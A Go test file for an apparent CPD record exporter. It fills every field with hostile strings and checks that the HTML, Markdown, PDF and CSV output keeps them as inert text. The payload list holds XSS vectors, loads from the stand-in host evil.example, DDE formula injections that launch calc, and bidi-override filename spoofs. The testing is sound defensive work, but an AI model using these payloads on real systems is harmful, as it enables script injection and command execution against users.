package record

import (
	"encoding/csv"
	"regexp"
	"slices"
	"strings"
	"testing"

	"example.org/cpdlog/internal/cpd"
	"example.org/cpdlog/internal/workbook"
)

// payloads try to run something, to load something, to break out of a tag, an
// attribute, a picture, a table or a line, or to show other words than there
// are.
var payloads = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `</title><script>alert(1)</script>`, `</style><script>alert(1)</script>`,
	`</text></svg><script>alert(1)</script>`, `<svg onload=alert(1)>`, `<svg/onload=alert(1)//`, `<svg><animate onbegin=alert(1) attributeName=x>`,
	`<svg><use href="data:image/svg+xml,x"/></svg>`, `<svg><image href="http://evil.example/x.png"/></svg>`, `<svg><foreignObject><iframe src="//evil"></foreignObject></svg>`,
	`<img src=x onerror=alert(1)>`, `<img src="http://evil.example/p.gif">`, `<iframe src="javascript:alert(1)">`, `<a href="javascript:alert(1)">x</a>`,
	`<a href='data:text/html,<script>alert(1)</script>'>x</a>`, `" onmouseover="alert(1)`, `' onfocus='alert(1)' autofocus='`, "` onclick=alert(1) `",
	`<link rel=stylesheet href=//evil.example/a.css>`, `<style>@import "//evil.example/a.css";</style>`, `<div style="background:url(//evil.example)">`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example/>`, `<object data=//evil.example>`, `<embed src=//evil.example>`,
	`<form action=//evil.example><input name=q>`, `<math href="javascript:alert(1)">x</math>`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`,
	`<!--<img src="--><img src=x onerror=alert(1)>">`, `<![CDATA[<script>alert(1)</script>]]>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, "<scr\nipt>alert(1)</scr\nipt>", `{{.}}`, `<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example">`,
	`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<xss id=x tabindex=1 onfocus=alert(1)></xss>`,
	`[link](javascript:alert(1))`, `![image](http://evil.example/x.png)`, `<http://evil.example>`, "`code` | cell | *bold* _it_ # head", "a\n\n# Heading\n\n- item",
	`=HYPERLINK("http://evil.example","x")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, "\tx", `＝1+1`,
	"safe\u202Egpj.exe", "\u2066hidden\u2069", "\u200Frtl",
}

// hostileInput is a record whose every text is the payload.
func hostileInput(p string) Input {
	entries := testEntries()
	for i := range entries {
		e := &entries[i]
		e.Title, e.Provider, e.FormalReason, e.ID, e.Kind = p, p, p, p, "learning"
		e.Tags, e.Competencies, e.Splits = []string{p}, []string{p}, map[string]int{p: 1}
		e.Texts = map[string]string{"learned": p, "consent": p, "note": p}
		for k := range e.Evidence {
			e.Evidence[k].Name = p
		}
	}
	in := testInput(entries)
	for _, f := range in.Member.Facts() {
		*f.At = p
	}
	in.Memberships[0].Number = p
	s := *in.Periods[0].Scheme
	s.Title, s.Source, s.Unit = p, p, p
	s.Rules.Assumes[0].Text, s.Rules.Activities[0].Name, s.Rules.Requires[0].Name = p, p, p
	in.Periods[0].Scheme = &s
	in.For, in.WithReflections, in.Signature = ForFull, true, true
	return in
}

// tag is one tag of a page, without the values of its attributes.
var tag = regexp.MustCompile(`<(/?[A-Za-z!][A-Za-z0-9]*)((?:\s+[A-Za-z:-]+="[^"<>]*")*)\s*>`)
var attribute = regexp.MustCompile(`\s([A-Za-z:-]+)="([^"]*)"`)

// TestHostileTextStaysText takes pages apart: nothing but tags of ours, each
// whole, and the same ones in the same order as for a harmless text.
func TestHostileTextStaysText(t *testing.T) {
	if len(payloads) < 40 {
		t.Fatal("too few payloads")
	}
	harmless := skeleton(t, "harmless", asHTML(t, Build(hostileInput("harmless"))))
	for _, p := range payloads {
		r := Build(hostileInput(p))
		if got := skeleton(t, p, asHTML(t, r)); !slices.Equal(got, harmless) {
			t.Errorf("%q changed the page: %d tags, not %d", p, len(got), len(harmless))
		}
		if m := asMarkdown(t, r); strings.ContainsAny(m, "\u202E\u2066\u200F") || regexp.MustCompile(`(^|[^\\])(<[A-Za-z!/?]|!\[|\]\()`).MatchString(m) || strings.Contains(m, "\n# Heading") {
			t.Errorf("%q is alive in Markdown", p)
		}
		if !strings.ContainsFunc(p, cpd.Hidden) {
			continue // the PDF has no tags to break: only what hides or reorders matters
		}
		if text := pdfText(t, asPDF(t, r)); strings.ContainsAny(text, "\u202E\u2066\u200F\x1b") {
			t.Errorf("%q hides in the PDF", p)
		}
	}
}

func skeleton(t *testing.T, what, page string) []string {
	t.Helper()
	allowed := strings.Fields("html head meta title style body main h1 h2 h3 h4 dl div dt dd p section table caption thead tr th tbody td ul li figure figcaption svg desc rect text span article")
	names := strings.Fields("lang charset name content class dir role tabindex aria-label aria-labelledby scope id viewBox width height x y preserveAspectRatio http-equiv")
	page = strings.Replace(page, "<style>"+css+"</style>", "<style></style>", 1)
	page = strings.TrimPrefix(page, "<!DOCTYPE html>")
	var out []string
	at := 0
	for _, m := range tag.FindAllStringSubmatchIndex(page, -1) {
		if between := page[at:m[0]]; strings.ContainsAny(between, "<>") {
			t.Errorf("%q: a stray sign of a tag in %q", what, between)
		}
		at = m[1]
		name := page[m[2]:m[3]]
		if !slices.Contains(allowed, strings.TrimPrefix(name, "/")) {
			t.Errorf("%q: tag %s", what, name)
		}
		out = append(out, name)
		for _, a := range attribute.FindAllStringSubmatch(page[m[4]:m[5]], -1) {
			if !slices.Contains(names, a[1]) {
				t.Errorf("%q: attribute %s", what, a[1])
			}
			out = append(out, a[1])
		}
	}
	return out
}

func TestNoCellIsAFormula(t *testing.T) {
	for _, p := range payloads {
		in := hostileInput(p)
		rows, err := csv.NewReader(strings.NewReader(asCSV(t, Build(in)))).ReadAll()
		if err != nil {
			t.Fatal(p, err)
		}
		for _, row := range rows[1:] {
			if workbook.Unguard(row[4]) != p {
				t.Errorf("%q came back as %q", p, row[4])
			}
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]) {
					t.Errorf("a cell begins %q", cell)
				}
			}
		}
	}
}
